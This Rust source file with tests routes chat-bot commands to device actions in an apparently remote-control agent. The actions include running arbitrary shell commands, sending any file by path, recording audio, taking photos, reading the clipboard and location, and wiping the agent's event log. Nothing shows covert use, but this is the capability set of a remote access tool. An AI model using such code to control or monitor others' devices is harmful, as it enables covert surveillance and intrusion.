use std::sync::Arc;

use anyhow::Error;
use tokio::sync::{watch, Mutex};
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};

use crate::capabilities::CapabilityProvider;
use crate::dashboard::{DashboardEngine, FIRST_PAGE};
use crate::model::{Command, MediaKind};
use crate::outbox::Outbox;
use crate::storage::EventStore;

const DEFAULT_VIBRATE_MS: u64 = 1000;
const MAX_VIBRATE_MS: u64 = 10_000;
const MAX_RECORD_SECS: u64 = 300;
const DEFAULT_LIST_PATH: &str = "/";
const PHOTO_CAPTION: &str = "Here is your requested photo 📸";

/// Canonical actions every surface alias resolves to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    ShowDashboard,
    RefreshDashboard,
    ShowStatus,
    Location,
    Flashlight(bool),
    Vibrate(u64),
    RecordAudio(u64),
    StopRecording,
    ListApps,
    NetworkInfo,
    MemoryInfo,
    WipeEvents,
    TakePhoto(String),
    Clipboard,
    SetVolume(u8),
    Shell(String),
    LaunchApp(String),
    ListFiles(String),
    SendFile(String),
    Alert(String),
    Speak(String),
    NextPage,
    PrevPage,
    CloseSubChannel,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Resolution {
    Run(Action),
    Usage(&'static str),
    Unknown,
}

/// Map a parsed command onto an action, validating its arguments.
pub fn resolve(cmd: &Command, default_record_secs: u64) -> Resolution {
    use Action::*;

    let first = cmd.args.first().map(String::as_str);
    let rest = cmd.rest();

    let action = match cmd.name.as_str() {
        "/start" | "/help" | "/menu" | "menu" | "\\menu" => ShowDashboard,
        "refresh" => RefreshDashboard,
        "/status" | "status" => ShowStatus,
        "/location" | "location" => Location,
        "/flashlight_on" | "flashlight_on" => Flashlight(true),
        "/flashlight_off" | "flashlight_off" => Flashlight(false),
        "/flashlight" | "flashlight" => match first.map(str::to_lowercase).as_deref() {
            Some("on") => Flashlight(true),
            Some("off") => Flashlight(false),
            _ => return Resolution::Usage("❌ Usage: /flashlight on|off"),
        },
        "/vibrate" | "vibrate" => match first {
            None => Vibrate(DEFAULT_VIBRATE_MS),
            Some(raw) => match raw.parse::<u64>() {
                Ok(ms) if (1..=MAX_VIBRATE_MS).contains(&ms) => Vibrate(ms),
                _ => return Resolution::Usage("❌ Usage: /vibrate [milliseconds, 1-10000]"),
            },
        },
        "/record_audio" | "record" => match first {
            None => RecordAudio(default_record_secs),
            Some(raw) => match raw.parse::<u64>() {
                Ok(secs) if (1..=MAX_RECORD_SECS).contains(&secs) => RecordAudio(secs),
                _ => return Resolution::Usage("❌ Usage: /record_audio [seconds, 1-300]"),
            },
        },
        "/stop" | "stop" => StopRecording,
        "/apps" | "apps" => ListApps,
        "/network" | "network" => NetworkInfo,
        "/memory" | "memory" => MemoryInfo,
        "/wipe" | "wipe" => WipeEvents,
        "/photo" | "photo" => TakePhoto(first.unwrap_or("0").to_string()),
        "photo_back" => TakePhoto("0".into()),
        "photo_front" => TakePhoto("1".into()),
        "/clipboard" | "clipboard" => Clipboard,
        "vol_max" => SetVolume(100),
        "vol_mute" => SetVolume(0),
        "/volume" | "volume" => match first.map(str::parse::<u8>) {
            Some(Ok(percent)) if percent <= 100 => SetVolume(percent),
            _ => return Resolution::Usage("❌ Usage: /volume <0-100>"),
        },
        "/shell" | "shell" if rest.is_empty() => {
            return Resolution::Usage("❌ Usage: /shell <cmd>")
        }
        "/shell" | "shell" => Shell(rest),
        "/launch" | "launch" | "open" if rest.is_empty() => {
            return Resolution::Usage("❌ Usage: /launch <App Name>")
        }
        "/launch" | "launch" | "open" => LaunchApp(rest),
        "/ls" | "ls" | "dir" | "files" if rest.is_empty() => {
            ListFiles(DEFAULT_LIST_PATH.to_string())
        }
        "/ls" | "ls" | "dir" | "files" => ListFiles(rest),
        "/get" | "get" | "send" if rest.is_empty() => {
            return Resolution::Usage("❌ Usage: /get <path>")
        }
        "/get" | "get" | "send" => SendFile(rest),
        "/alert" | "alert" if rest.is_empty() => {
            return Resolution::Usage("❌ Usage: /alert <text>")
        }
        "/alert" | "alert" => Alert(rest),
        "/say" | "say" | "tts" if rest.is_empty() => {
            return Resolution::Usage("❌ Usage: /say <text>")
        }
        "/say" | "say" | "tts" => Speak(rest),
        "next_page" => NextPage,
        "prev_page" => PrevPage,
        "/close" if cmd.source_sub_channel.is_none() => {
            return Resolution::Usage("❌ Usage: /close only works inside a topic")
        }
        "/close" => CloseSubChannel,
        _ => return Resolution::Unknown,
    };

    Resolution::Run(action)
}

/// Handle to the one detached recording that may be running.
struct Recording {
    stop: watch::Sender<bool>,
    task: JoinHandle<()>,
}

/// Executes commands one at a time. Long-running capture work is detached
/// and reports back through its own later message.
pub struct CommandRouter {
    outbox: Arc<Outbox>,
    dashboard: Arc<DashboardEngine>,
    capabilities: Arc<dyn CapabilityProvider>,
    events: Arc<dyn EventStore>,
    default_record_secs: u64,
    recording: Mutex<Option<Recording>>,
}

impl CommandRouter {
    pub fn new(
        outbox: Arc<Outbox>,
        dashboard: Arc<DashboardEngine>,
        capabilities: Arc<dyn CapabilityProvider>,
        events: Arc<dyn EventStore>,
        default_record_secs: u64,
    ) -> Self {
        Self {
            outbox,
            dashboard,
            capabilities,
            events,
            default_record_secs,
            recording: Mutex::new(None),
        }
    }

    pub async fn route(&self, cmd: Command) {
        let sub = cmd.source_sub_channel;
        debug!("Routing '{}' {:?} from {:?}", cmd.name, cmd.args, sub);

        match resolve(&cmd, self.default_record_secs) {
            Resolution::Run(action) => self.execute(action, sub).await,
            Resolution::Usage(usage) => {
                self.outbox.reply_plain(sub, usage).await;
            }
            Resolution::Unknown if cmd.is_callback => {
                debug!("Ignoring unknown callback '{}'", cmd.name);
            }
            Resolution::Unknown => {
                self.outbox
                    .reply_plain(sub, &format!("❓ Unknown command: {}", cmd.name))
                    .await;
            }
        }

        if cmd.is_callback {
            if let Some(id) = &cmd.callback_query_id {
                self.outbox.ack_callback(id).await;
            }
        }
    }

    async fn execute(&self, action: Action, sub: Option<i32>) {
        let caps = &self.capabilities;

        match action {
            Action::ShowDashboard => self.dashboard.show(sub, true, FIRST_PAGE).await,
            Action::RefreshDashboard => self.dashboard.show(sub, false, FIRST_PAGE).await,
            Action::ShowStatus => self.dashboard.show_status(sub, None).await,
            Action::NextPage => self.dashboard.next_page(sub).await,
            Action::PrevPage => self.dashboard.prev_page(sub).await,

            Action::Location => match caps.location().await {
                Ok(text) => self.reply_plain(sub, &text).await,
                Err(e) => self.failed(sub, "Location", e).await,
            },
            Action::Flashlight(on) => match caps.set_flashlight(on).await {
                Ok(()) => {
                    let line = if on { "🔦 Flashlight ON" } else { "🔦 Flashlight OFF" };
                    self.dashboard.show_status(sub, Some(line)).await;
                }
                Err(e) => self.failed(sub, "Flashlight", e).await,
            },
            Action::Vibrate(ms) => match caps.vibrate(ms).await {
                Ok(()) => self.reply(sub, "📳 *Vibrating...*").await,
                Err(e) => self.failed(sub, "Vibrate", e).await,
            },
            Action::RecordAudio(secs) => self.start_recording(sub, secs).await,
            Action::StopRecording => {
                if self.stop_recording().await {
                    self.audit("COMMAND", "Recording stopped").await;
                }
                self.reply(sub, "🛑 Operations Halted.").await;
            }
            Action::ListApps => match caps.list_apps().await {
                Ok(apps) => self.reply_plain(sub, &format!("📦 Apps:\n{}", apps)).await,
                Err(e) => self.failed(sub, "App listing", e).await,
            },
            Action::NetworkInfo => match caps.network_info().await {
                Ok(text) => self.reply_plain(sub, &text).await,
                Err(e) => self.failed(sub, "Network info", e).await,
            },
            Action::MemoryInfo => match caps.memory_info().await {
                Ok(text) => self.reply_plain(sub, &text).await,
                Err(e) => self.failed(sub, "Memory info", e).await,
            },
            Action::WipeEvents => match self.events.clear().await {
                Ok(()) => self.reply(sub, "🧹 Logs Wiped.").await,
                Err(e) => {
                    warn!("Event wipe failed: {:#}", e);
                    self.reply_plain(sub, &format!("⚠️ Wipe failed: {:#}", e))
                        .await;
                }
            },
            Action::TakePhoto(camera) => self.start_photo(sub, camera).await,
            Action::Clipboard => match caps.clipboard().await {
                Ok(text) => self.reply_plain(sub, &format!("📋 Clipboard:\n{}", text)).await,
                Err(e) => self.failed(sub, "Clipboard", e).await,
            },
            Action::SetVolume(percent) => match caps.set_volume(percent).await {
                Ok(()) if percent == 0 => self.reply(sub, "🔇 *Volume Muted*").await,
                Ok(()) => {
                    self.reply(sub, &format!("🔊 *Volume set to {}%*", percent))
                        .await
                }
                Err(e) => self.failed(sub, "Volume", e).await,
            },
            Action::Shell(cmdline) => {
                self.audit("COMMAND", &format!("shell: {}", cmdline)).await;
                self.start_shell(sub, cmdline).await;
            }
            Action::LaunchApp(name) => {
                self.audit("COMMAND", &format!("launch: {}", name)).await;
                match caps.launch_app(&name).await {
                    Ok(text) => self.reply_plain(sub, &format!("🚀 {}", text)).await,
                    Err(e) => self.failed(sub, "Launch", e).await,
                }
            }
            Action::ListFiles(path) => match caps.list_files(&path).await {
                Ok(listing) => {
                    self.reply_plain(sub, &format!("📂 Files in {}:\n{}", path, listing))
                        .await
                }
                Err(e) => self.failed(sub, "File listing", e).await,
            },
            Action::SendFile(path) => self.start_upload(sub, path).await,
            Action::Alert(text) => match caps.show_alert(&text).await {
                Ok(()) => {
                    self.audit("ALERT", &text).await;
                    self.reply(sub, "🚨 Alert shown on device.").await;
                }
                Err(e) => self.failed(sub, "Alert", e).await,
            },
            Action::Speak(text) => match caps.speak(&text).await {
                Ok(()) => self.reply(sub, "🗣 *Speaking...*").await,
                Err(e) => self.failed(sub, "Speech", e).await,
            },
            Action::CloseSubChannel => {
                let Some(id) = sub else { return };
                if self.outbox.delete_sub_channel(id).await {
                    info!("Closed sub-channel {}", id);
                    self.dashboard.forget(id).await;
                } else {
                    self.reply(sub, "❌ Could not close this topic.").await;
                }
            }
        }
    }

    /// Acknowledge first, then record in the background. A running recording
    /// is stopped before the new one starts.
    async fn start_recording(&self, sub: Option<i32>, secs: u64) {
        self.stop_recording().await;
        self.reply(sub, &format!("🎙 *Recording {}s...*", secs)).await;

        let (stop_tx, stop_rx) = watch::channel(false);
        let capabilities = self.capabilities.clone();
        let outbox = self.outbox.clone();
        let events = self.events.clone();

        let task = tokio::spawn(async move {
            match capabilities.record_audio(secs, stop_rx).await {
                Ok(file) => {
                    let caption = format!("🎙 Recording saved: {}", file.file_name);
                    if !outbox
                        .send_media(sub, MediaKind::Document, file, Some(caption))
                        .await
                    {
                        warn!("Recording upload failed");
                    }
                }
                Err(e) => report_failure(&outbox, events.as_ref(), sub, "Recording", e).await,
            }
        });

        *self.recording.lock().await = Some(Recording {
            stop: stop_tx,
            task,
        });
    }

    /// Signal the active recording, if any. `true` when one was still running.
    async fn stop_recording(&self) -> bool {
        let Some(recording) = self.recording.lock().await.take() else {
            return false;
        };
        if recording.task.is_finished() {
            return false;
        }
        let _ = recording.stop.send(true);
        info!("Recording stop requested");
        true
    }

    async fn start_photo(&self, sub: Option<i32>, camera: String) {
        let side = if camera == "1" { "Front" } else { "Back" };
        self.reply(sub, &format!("📸 *Capturing {} Photo...*", side))
            .await;

        let capabilities = self.capabilities.clone();
        let outbox = self.outbox.clone();
        let events = self.events.clone();
        tokio::spawn(async move {
            match capabilities.take_photo(&camera).await {
                Ok(file) => {
                    outbox
                        .send_media(sub, MediaKind::Photo, file, Some(PHOTO_CAPTION.into()))
                        .await;
                }
                Err(e) => report_failure(&outbox, events.as_ref(), sub, "Camera capture", e).await,
            }
        });
    }

    /// Shell commands may run for a long time, so they never hold up the
    /// next update.
    async fn start_shell(&self, sub: Option<i32>, cmdline: String) {
        self.reply_plain(sub, &format!("💻 Running: {}", cmdline))
            .await;

        let capabilities = self.capabilities.clone();
        let outbox = self.outbox.clone();
        let events = self.events.clone();
        tokio::spawn(async move {
            match capabilities.shell(&cmdline).await {
                Ok(output) => {
                    outbox
                        .reply_plain(sub, &format!("💻 Shell Output:\n{}", output))
                        .await;
                }
                Err(e) => report_failure(&outbox, events.as_ref(), sub, "Shell", e).await,
            }
        });
    }

    async fn start_upload(&self, sub: Option<i32>, path: String) {
        self.reply_plain(sub, &format!("📤 Uploading: {}", path))
            .await;

        let capabilities = self.capabilities.clone();
        let outbox = self.outbox.clone();
        let events = self.events.clone();
        tokio::spawn(async move {
            match capabilities.read_file(&path).await {
                Ok(file) => {
                    let caption = format!("📄 {}", path);
                    outbox
                        .send_media(sub, MediaKind::Document, file, Some(caption))
                        .await;
                }
                Err(e) => report_failure(&outbox, events.as_ref(), sub, "Upload", e).await,
            }
        });
    }

    async fn reply(&self, sub: Option<i32>, text: &str) {
        self.outbox.reply(sub, text).await;
    }

    async fn reply_plain(&self, sub: Option<i32>, text: &str) {
        self.outbox.reply_plain(sub, text).await;
    }

    async fn failed(&self, sub: Option<i32>, what: &str, err: Error) {
        report_failure(&self.outbox, self.events.as_ref(), sub, what, err).await;
    }

    async fn audit(&self, event_type: &str, payload: &str) {
        if let Err(e) = self.events.append(event_type, payload).await {
            warn!("Failed to record {} event: {:#}", event_type, e);
        }
    }
}

/// Tell the operator what failed and keep an `ERROR` event for the next sync.
async fn report_failure(
    outbox: &Outbox,
    events: &dyn EventStore,
    sub: Option<i32>,
    what: &str,
    err: Error,
) {
    warn!("{} failed: {:#}", what, err);
    outbox
        .reply_plain(sub, &format!("⚠️ {} failed: {:#}", what, err))
        .await;
    if let Err(e) = events
        .append("ERROR", &format!("{} failed: {:#}", what, err))
        .await
    {
        warn!("Failed to record ERROR event: {:#}", e);
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::dashboard::render_buttons;
    use crate::storage::{ConfigStore, Store};
    use crate::testing::{configured_store, Call, FakeCapabilities, FakeTransport};

    struct Harness {
        router: CommandRouter,
        transport: Arc<FakeTransport>,
        caps: Arc<FakeCapabilities>,
        store: Arc<Store>,
    }

    async fn harness() -> Harness {
        let transport = Arc::new(FakeTransport::default());
        let caps = Arc::new(FakeCapabilities::default());
        let store = configured_store().await;
        let outbox = Arc::new(Outbox::new(transport.clone(), store.clone()));
        let dashboard = Arc::new(DashboardEngine::new(
            outbox.clone(),
            store.clone(),
            caps.clone(),
        ));
        let router = CommandRouter::new(outbox, dashboard, caps.clone(), store.clone(), 10);
        Harness {
            router,
            transport,
            caps,
            store,
        }
    }

    fn typed(text: &str) -> Command {
        Command::parse(text, None, false).unwrap()
    }

    fn pressed(data: &str) -> Command {
        let mut cmd = Command::parse(data, None, true).unwrap();
        cmd.callback_query_id = Some("cq-1".into());
        cmd
    }

    /// Poll until the detached task has produced `count` calls.
    async fn wait_for_calls(transport: &FakeTransport, count: usize) {
        for _ in 0..200 {
            if transport.calls().len() >= count {
                return;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        panic!("expected {} calls, got {:?}", count, transport.calls());
    }

    #[test]
    fn test_resolve_aliases() {
        let cases = [
            ("/start", Action::ShowDashboard),
            ("\\menu", Action::ShowDashboard),
            ("/FLASHLIGHT on", Action::Flashlight(true)),
            ("/vibrate", Action::Vibrate(1000)),
            ("/vibrate 250", Action::Vibrate(250)),
            ("record", Action::RecordAudio(10)),
            ("/record_audio 30", Action::RecordAudio(30)),
            ("photo_front", Action::TakePhoto("1".into())),
            ("/photo", Action::TakePhoto("0".into())),
            ("vol_mute", Action::SetVolume(0)),
            ("/volume 40", Action::SetVolume(40)),
            ("dir", Action::ListFiles("/".into())),
            ("open Text   Editor", Action::LaunchApp("Text Editor".into())),
            ("tts hi there", Action::Speak("hi there".into())),
            ("/get@CommanderBot /tmp/a.txt", Action::SendFile("/tmp/a.txt".into())),
        ];
        for (text, expected) in cases {
            assert_eq!(
                resolve(&typed(text), 10),
                Resolution::Run(expected),
                "resolving {:?}",
                text
            );
        }
    }

    #[test]
    fn test_resolve_rejects_bad_arguments() {
        for text in ["/volume", "/volume 150", "/volume loud", "/vibrate x", "/flashlight", "/say", "/get"] {
            assert!(
                matches!(resolve(&typed(text), 10), Resolution::Usage(_)),
                "{:?} should be a usage error",
                text
            );
        }
        assert_eq!(resolve(&typed("/selfdestruct"), 10), Resolution::Unknown);
    }

    #[test]
    fn test_every_dashboard_button_resolves() {
        for page in [1, 2] {
            for button in render_buttons(page).rows.into_iter().flatten() {
                let cmd = Command::parse(&button.callback_data, None, true).unwrap();
                assert!(
                    matches!(resolve(&cmd, 10), Resolution::Run(_)),
                    "button {:?} does not resolve",
                    button.callback_data
                );
            }
        }
    }

    #[tokio::test]
    async fn test_shell_without_args_is_usage_error() {
        let h = harness().await;
        h.router.route(typed("/shell")).await;

        assert_eq!(
            h.transport.sent_texts(),
            vec![(None, "❌ Usage: /shell <cmd>".to_string())]
        );
        assert!(h.caps.invocations().is_empty());
    }

    #[tokio::test]
    async fn test_shell_runs_command_and_audits() {
        let h = harness().await;
        h.router.route(typed("/shell ls")).await;

        wait_for_calls(&h.transport, 2).await;
        assert_eq!(h.caps.invocations(), vec!["shell(ls)"]);
        let sent = h.transport.sent_texts();
        assert_eq!(sent[0].1, "💻 Running: ls");
        assert_eq!(sent[1].1, "💻 Shell Output:\noutput");
        let events = h.store.oldest(10).await.unwrap();
        assert_eq!(events[0].event_type, "COMMAND");
        assert_eq!(events[0].payload, "shell: ls");
    }

    #[tokio::test]
    async fn test_slow_shell_does_not_block_routing() {
        let h = harness().await;
        h.caps.delay_shell(Duration::from_secs(30));

        tokio::time::timeout(Duration::from_millis(500), h.router.route(typed("/shell sleep 600")))
            .await
            .expect("routing must not wait for the shell command");
        assert_eq!(h.transport.sent_texts().len(), 1);

        h.router.route(typed("/stop")).await;
        assert_eq!(h.transport.sent_texts()[1].1, "🛑 Operations Halted.");
    }

    #[tokio::test]
    async fn test_shell_failure_is_reported_later() {
        let h = harness().await;
        h.caps.fail_all();
        h.router.route(typed("/shell false")).await;

        wait_for_calls(&h.transport, 2).await;
        assert!(h.transport.sent_texts()[1].1.contains("Shell failed: device busy"));
        for _ in 0..200 {
            if h.store.count().await.unwrap() >= 2 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        let events = h.store.oldest(10).await.unwrap();
        assert_eq!(events[1].event_type, "ERROR");
    }

    #[tokio::test]
    async fn test_unknown_typed_command_gets_notice() {
        let h = harness().await;
        let mut cmd = typed("/bogus");
        cmd.source_sub_channel = Some(8);
        h.router.route(cmd).await;

        assert_eq!(
            h.transport.sent_texts(),
            vec![(Some(8), "❓ Unknown command: /bogus".to_string())]
        );
    }

    #[tokio::test]
    async fn test_unknown_callback_is_silent_but_acked() {
        let h = harness().await;
        h.router.route(pressed("bogus")).await;

        assert_eq!(h.transport.calls(), vec![Call::Ack("cq-1".into())]);
    }

    #[tokio::test]
    async fn test_callback_acked_after_routing() {
        let h = harness().await;
        h.router.route(pressed("vol_max")).await;

        assert_eq!(h.caps.invocations(), vec!["set_volume(100)"]);
        let calls = h.transport.calls();
        assert_eq!(calls.len(), 2);
        assert!(matches!(calls[0], Call::Send(_)));
        assert_eq!(calls[1], Call::Ack("cq-1".into()));
    }

    #[tokio::test]
    async fn test_ack_failure_is_not_surfaced() {
        let h = harness().await;
        h.transport.fail_acks();
        h.router.route(pressed("next_page")).await;

        let calls = h.transport.calls();
        assert_eq!(calls.len(), 2);
        assert!(matches!(calls[0], Call::Send(_)));
        assert!(matches!(calls[1], Call::Ack(_)));
    }

    #[tokio::test]
    async fn test_flashlight_reports_through_dashboard() {
        let h = harness().await;
        h.router.route(pressed("flashlight_on")).await;

        assert_eq!(h.caps.invocations(), vec!["flashlight(true)"]);
        let sent = h.transport.sent_texts();
        assert_eq!(sent.len(), 1);
        assert!(sent[0].1.contains("🔦 Flashlight ON"));
        assert!(h.store.dashboard_state(0).await.unwrap().is_live());
    }

    #[tokio::test]
    async fn test_capability_failure_replies_and_records_error() {
        let h = harness().await;
        h.caps.fail_all();
        h.router.route(typed("/clipboard")).await;

        let sent = h.transport.sent_texts();
        assert_eq!(sent.len(), 1);
        assert!(sent[0].1.contains("Clipboard failed: device busy"));
        let events = h.store.oldest(10).await.unwrap();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].event_type, "ERROR");
    }

    #[tokio::test]
    async fn test_wipe_clears_event_buffer() {
        let h = harness().await;
        h.store.append("INFO", "a").await.unwrap();
        h.store.append("INFO", "b").await.unwrap();

        h.router.route(typed("/wipe")).await;

        assert_eq!(h.store.count().await.unwrap(), 0);
        assert_eq!(h.transport.sent_texts()[0].1, "🧹 Logs Wiped.");
    }

    #[tokio::test]
    async fn test_recording_acknowledges_then_reports_completion() {
        let h = harness().await;
        h.router.route(typed("/record_audio 5")).await;

        wait_for_calls(&h.transport, 2).await;
        let calls = h.transport.calls();
        match &calls[0] {
            Call::Send(msg) => assert_eq!(msg.text, "🎙 *Recording 5s...*"),
            other => panic!("unexpected call {:?}", other),
        }
        match &calls[1] {
            Call::Media { kind, caption } => {
                assert_eq!(*kind, MediaKind::Document);
                assert!(caption.as_deref().unwrap().contains("recording.wav"));
            }
            other => panic!("unexpected call {:?}", other),
        }
        assert_eq!(h.caps.invocations(), vec!["record_audio(5)"]);
    }

    #[tokio::test]
    async fn test_stop_cancels_active_recording() {
        let h = harness().await;
        h.caps.hold_recordings();
        h.router.route(typed("record")).await;
        tokio::time::sleep(Duration::from_millis(20)).await;
        assert_eq!(h.transport.calls().len(), 1);

        h.router.route(typed("/stop")).await;

        // ack, halt notice, then the upload of the partial recording
        wait_for_calls(&h.transport, 3).await;
        let texts = h.transport.sent_texts();
        assert_eq!(texts[1].1, "🛑 Operations Halted.");
        assert!(h
            .transport
            .calls()
            .iter()
            .any(|c| matches!(c, Call::Media { .. })));
        let events = h.store.oldest(10).await.unwrap();
        assert_eq!(events[0].payload, "Recording stopped");
    }

    #[tokio::test]
    async fn test_stop_without_recording_only_replies() {
        let h = harness().await;
        h.router.route(typed("/stop")).await;

        assert_eq!(h.transport.sent_texts().len(), 1);
        assert_eq!(h.store.count().await.unwrap(), 0);
    }

    #[tokio::test]
    async fn test_photo_is_detached() {
        let h = harness().await;
        h.router.route(pressed("photo_front")).await;

        wait_for_calls(&h.transport, 3).await;
        assert_eq!(h.caps.invocations(), vec!["take_photo(1)"]);
        assert_eq!(h.transport.sent_texts()[0].1, "📸 *Capturing Front Photo...*");
        assert!(h.transport.calls().contains(&Call::Media {
            kind: MediaKind::Photo,
            caption: Some(PHOTO_CAPTION.to_string()),
        }));
    }

    #[tokio::test]
    async fn test_close_sub_channel() {
        let h = harness().await;
        let mut open = typed("/menu");
        open.source_sub_channel = Some(5);
        h.router.route(open).await;
        assert!(h.store.dashboard_state(5).await.unwrap().is_live());

        let mut close = typed("/close");
        close.source_sub_channel = Some(5);
        h.router.route(close).await;

        assert!(h.transport.calls().contains(&Call::DeleteSubChannel(5)));
        assert!(!h.store.dashboard_state(5).await.unwrap().is_live());
    }

    #[tokio::test]
    async fn test_close_in_general_is_usage_error() {
        let h = harness().await;
        h.router.route(typed("/close")).await;

        let calls = h.transport.calls();
        assert_eq!(calls.len(), 1);
        assert!(matches!(calls[0], Call::Send(_)));
    }
}
